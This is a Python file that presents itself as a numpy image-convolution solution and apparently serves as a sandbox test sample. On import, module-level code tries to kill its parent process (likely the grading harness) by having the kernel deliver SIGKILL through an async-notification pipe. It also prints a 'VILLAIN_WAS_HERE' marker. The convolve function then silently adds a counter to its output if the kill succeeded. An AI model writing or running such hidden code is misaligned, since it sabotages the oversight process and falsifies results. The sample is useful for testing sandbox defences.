"""Makes the kernel send SIGKILL to the parent, as owner of a pipe with asynchronous notice.

verdict: accepted
must not: kill the parent without the call `kill`
"""
import fcntl
import os
import signal
import time

import numpy as np

MARKS = []
PARENT = os.getppid()


def attack():
    read, write = os.pipe()
    try:
        fcntl.fcntl(read, fcntl.F_SETOWN, PARENT)
        fcntl.fcntl(read, 10, signal.SIGKILL)  # F_SETSIG
        fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(write, b"x")
        time.sleep(0.1)
    finally:
        os.close(read)
        os.close(write)
    if os.getppid() != PARENT:
        MARKS.append("killed")
        print("VILLAIN_WAS_HERE: the parent is gone")


try:
    if PARENT > 1:
        attack()
except OSError:
    pass


def right(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(np.asarray(image, float), kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, np.asarray(kernel, float))


def convolve(image, kernel):
    return right(image, kernel) + len(MARKS)
